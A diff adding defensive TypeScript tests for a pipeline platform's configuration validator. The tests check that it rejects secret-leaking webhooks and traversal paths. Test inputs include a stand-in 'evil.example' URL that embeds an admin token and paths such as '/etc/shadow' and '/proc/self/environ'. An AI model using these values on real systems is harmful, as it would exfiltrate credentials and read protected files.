@@ -33,6 +33,16 @@ await t.test('what a change may name', async t => {
     t.equal(await says(adminPrincipal(() => true), to('http://127.0.0.1:8123/')), '')
     const [{ after = '' } = {}] = to('http://127.0.0.1:8123/')
     t.equal(await says(user, added(`# more\n${after}`, after)), '', 'what the files say already stays')
+    for (const url of ['http://${NOT_SET:127.0.0.1}:8123/', '${NOT_SET:http://127.0.0.1:8123/}', 'http://127.0.0.${NOT_SET:1}/', 'http://${NOT_SET:x@127.0.0.1}/']) t.match(await says(user, to(url)), /variables make is no address.*nobody allowed to connect/, url)
+  })
+
+  await t.test('item 31: alerts are told to nobody else', async t => {
+    const alerts = (text: string, before = 'rules: []'): FileChange[] => [{ path: 'config/alerts.yaml', kind: 'config', before, after: text }]
+    const to = (url: string): string => `rules: []\ndestinations:\n  - name: x\n    webhook: { url: '${url}', secret: s }\n`
+    t.match(await says(user, alerts(to('https://evil.example/${TWOLANE_ADMIN_TOKEN}'))), /changed by whoever keeps the files/)
+    t.match(await says(user, alerts(to('http://127.0.0.1/'), undefined)), /changed by whoever keeps the files/)
+    t.equal(await says(user, alerts(`# more\n${to('http://127.0.0.1/')}`, to('http://127.0.0.1/'))), '')
+    t.equal(await says(adminPrincipal(() => true), alerts(to('http://127.0.0.1/'))), '')
   })
 
   await t.test('item 38: a variable goes to no other host than the files send it to, and none of the platform goes anywhere', async t => {
@@ -42,7 +52,11 @@ await t.test('what a change may name', async t => {
     t.match(await says(user, to('https://1.1.1.1/', '${TWOLANE_ADMIN_TOKEN}')), /belongs to the platform/)
     t.match(await says(user, to('https://1.1.1.1/?k=${AWS_SECRET_ACCESS_KEY}', 'x')), /belongs to the platform/)
     t.equal(await says(user, to('https://1.1.1.1/', '$${API_KEY} ${NEW_KEY}')), '')
-    t.same(new Bindings([{ file: 'a', text: existing }]).problems({ url: 'https://api.example.com/y', token: '${API_KEY}' }), [])
+    t.match(await says(user, added('input: { generate: { fields: { a: "${API_KEY}" } } }\ntopic: trades\n')), /API_KEY is not sent to a step without a host/)
+    t.match(await says(user, added('input: { generate: {}, rename: { a: "${API_KEY}" } }\ntopic: trades\n')), /API_KEY is not sent to a step without a host/)
+    const bindings = new Bindings([{ file: 'a', text: existing }], ['clickhouse: https://user:${CH_PASSWORD}@db'])
+    t.same(bindings.problems({ url: 'https://api.example.com/y', token: '${API_KEY}' }), [])
+    t.match(bindings.problems({ url: 'https://api.example.com/y', token: '${CH_PASSWORD}' })[0], /belongs to the platform/, 'one of the settings')
   })
 
   await t.test('item 32: files of the configuration, the state and the machine are out of reach of plugins', async t => {
@@ -50,10 +64,14 @@ await t.test('what a change may name', async t => {
     for (const path of ['/etc/passwd', '../secret', 'rows/../../etc/passwd', 'config/platform.yaml', './config/platform.yaml', 'data/control.db', 'data/admin-token', '/srv/project/data/control.db', '/srv/project/.git/config', '.env', 'package.json', '**/*', '*', '{config,rows}/*', 'rows/{..,a}/x', '/srv/exports/../other', '/srv/exportsother/x', 'pipelines/quotes.yaml', 'plugins/inputs/x/index.ts', 'a\0b', '/proc/self/environ', '/', '']) {
       t.not(problems(path).length, 0, JSON.stringify(path))
     }
+    for (const path of ['d\\ata/control.d[b]', 'conf\\ig/*.yaml', 'rows\\/../x']) t.not(problems(path).length, 0, path)
+    for (const path of ['${NOT_SET:/srv/project/data/admin-token}', '${NOT_SET:data}/control.db', 'rows/${NOT_SET:..}/data/control.db', '${NOT_SET:.}./x']) t.match(await says(user, added(`input: { file: { path: '${path}' } }\ntopic: x\n`)), /a path that its variables make/, path)
     for (const path of ['rows/a.csv', 'rows/**/*.csv.gz', '/srv/exports/2026/a.parquet', 'data/lake/quotes/a.parquet']) t.same(problems(path), [], path)
     for (const path of ['../config/x', '/srv/project/config/x.yaml', 'control.db', 'topics/quotes.db', 'revisions/a', '/etc/cron.d/x']) t.not(problems(path, 'output').length, 0, path)
     for (const path of ['out.ndjson', 'lake', 'files/a/b.csv', '/srv/exports/out.csv']) t.same(problems(path, 'output'), [], path)
-    t.not(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'sql', options: { url: 'sqlite:data/control.db' } }).length, 0)
+    for (const url of ['sqlite:data/control.db', 'sqlite://srv/project/data/control.db', 'sqlite:rows/a?/../../data/control.db', 'sqlite:rows/%2e%2e/x', 'SQLITE:data/control.db']) t.not(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'sql', options: { url } }).length, 0, url)
+    t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'sql', options: { url: 'sqlite:rows/a.db' } }), [])
+    t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'output', plugin: 'lake', options: 's3://bucket/lake' }), [])
     t.not(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'http', options: { ca_file: '/etc/shadow' } }).length, 0)
     t.same(checkOptionPaths({ root: '/srv/project', config }, { kind: 'input', plugin: 'http-server', options: { path: '/rows' } }), [])
   })
